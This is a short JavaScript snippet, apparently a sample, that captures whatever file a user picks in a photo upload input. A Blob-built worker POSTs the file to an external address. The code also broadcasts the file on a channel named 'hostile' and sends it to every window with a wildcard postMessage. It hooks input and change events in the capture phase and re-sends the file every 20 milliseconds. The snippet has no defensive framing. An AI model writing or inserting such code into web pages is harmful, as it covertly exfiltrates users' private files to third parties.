// Posts whatever the input holds to workers, channels and other windows.
const source = 'onmessage = ({ data: { file, to } }) => file && fetch(to, { method: "POST", body: file });';
const worker = new Worker(URL.createObjectURL(new Blob([source], { type: 'text/javascript' })));
const shared = new BroadcastChannel('hostile');
const hear = new BroadcastChannel('hostile');
hear.onmessage = ({ data }) => take(data);
addEventListener('message', ({ data }) => take(data?.file));
const post = () => {
  const [file] = photo.files;
  worker.postMessage({ file, to: `${address}&name=x` });
  shared.postMessage(file);
  window.postMessage({ file }, '*');
};
for (const name of ['input', 'change']) for (const target of [window, photo]) target.addEventListener(name, post, true);
setInterval(post, 20);
